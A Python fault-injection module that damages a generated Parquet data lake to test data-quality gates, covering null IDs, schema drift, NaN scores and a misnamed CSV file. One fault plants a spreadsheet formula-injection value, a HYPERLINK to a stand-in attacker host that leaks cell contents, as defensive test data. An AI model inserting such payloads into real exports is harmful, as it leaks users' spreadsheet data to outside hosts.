"""The bad-input corpus of the data-quality gates: each fault damages one day of a generated lake
(``ioc fault``), the way a producer's mistake would."""

from __future__ import annotations

import datetime as dt
import os
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq

from ioc_analytics.errors import ConfigError
from ioc_analytics.lake.catalog import load_catalog
from ioc_analytics.lake.contract import ASSESSMENT_TYPES, FACET_KEYS


def _set_value(table: pa.Table, column: str, row: int, value: object) -> pa.Table:
    values = table[column].to_pylist()
    values[row] = value
    return table.set_column(table.schema.get_field_index(column), column, pa.array(values, table[column].type))


def _drop_facet(table: pa.Table) -> pa.Table:
    facets = table["facets"].to_pylist()
    facets[0] = [kv for kv in facets[0] if kv[0] != FACET_KEYS[0]]
    return table.set_column(table.schema.get_field_index("facets"), "facets", pa.array(facets, table["facets"].type))


#: name -> (table it damages, what it does to the day's file). Events faults damage one
#: assessment type's partition; score faults the day's file of scores.
FAULTS = {
    "null-id": ("assessment_events", lambda t: _set_value(t, "anonymous_user_id", 3, None)),
    "negative-completion-time": ("assessment_events", lambda t: _set_value(t, "completion_time", 1, -5)),
    "absurd-completion-time": ("assessment_events", lambda t: _set_value(t, "completion_time", 1, 999_999)),
    "duplicate-events": ("assessment_events", lambda t: pa.concat_tables([t, t.slice(0, 2)])),
    "outside-partition": ("assessment_events", lambda t: _set_value(
        t, "timestamp", 2, t["timestamp"][2].as_py() + dt.timedelta(days=1))),
    "unknown-device": ("assessment_events", lambda t: _set_value(t, "device", 0, "smart_fridge")),
    "column-missing": ("assessment_events", lambda t: t.drop_columns(["region"])),
    "column-added": ("assessment_events", lambda t: t.append_column("tracking_pixel", pa.array(["x"] * t.num_rows))),
    "column-retyped": ("assessment_events", lambda t: t.set_column(
        t.schema.get_field_index("completion_time"), "completion_time", t["completion_time"].cast(pa.string()))),
    "empty-partition": ("assessment_events", lambda t: t.slice(0, 0)),
    "not-parquet": ("assessment_events", None),
    "formula-label": ("assessment_events", lambda t: _set_value(
        t, "role", 0, '=HYPERLINK("http://attacker.example/?leak="&A1,"open")')),
    "out-of-range-trait": ("ocean_scores", lambda t: _set_value(t, "openness", 0, 130.0)),
    # Parquet writers leave NaN out of a column's min/max: the file's statistics look in range.
    "nan-trait": ("ocean_scores", lambda t: _set_value(t, "openness", 0, float("nan"))),
    "missing-facet": ("ocean_scores", _drop_facet),
}


def inject_fault(lake_root: str | Path, day: dt.date, fault: str, assessment_type: str = "personality") -> Path:
    """Damage ``day`` of a generated lake with ``fault`` (see FAULTS); returns the file changed."""
    if fault not in FAULTS:
        raise ConfigError(f"{fault!r} is not a fault; choose one of {', '.join(FAULTS)}")
    if assessment_type not in ASSESSMENT_TYPES:
        raise ConfigError(f"{assessment_type!r} is not an assessment type; choose one of "
                          f"{', '.join(ASSESSMENT_TYPES)}")
    catalog = load_catalog(str(Path(lake_root).expanduser().resolve()))
    table_name, change = FAULTS[fault]
    table = catalog.table(table_name)
    if table_name == "assessment_events":
        folder = Path(table.partition_location({"date": day.strftime("%Y/%m/%d"), "assessment_type": assessment_type}))
        target = folder / "part-00000.parquet"
    else:
        folder = Path(table.partition_location({"year": day.strftime("%Y"), "month": day.strftime("%m")}))
        target = folder / f"part-{day:%Y%m%d}.parquet"
    if not target.is_file():
        raise ConfigError(f"{target} does not exist: generate {day} first (`ioc generate --start {day}`)")
    if change is None:  # a CSV export dropped into the partition under a Parquet name
        broken = folder / "part-99999.parquet"
        broken.write_text("anonymous_user_id,session_id\nu-1,s-1\n")
        return broken
    damaged = change(pq.read_table(target))
    tmp = target.with_name(f".{target.name}.fault")
    pq.write_table(damaged, tmp, compression="snappy")
    os.replace(tmp, target)
    return target
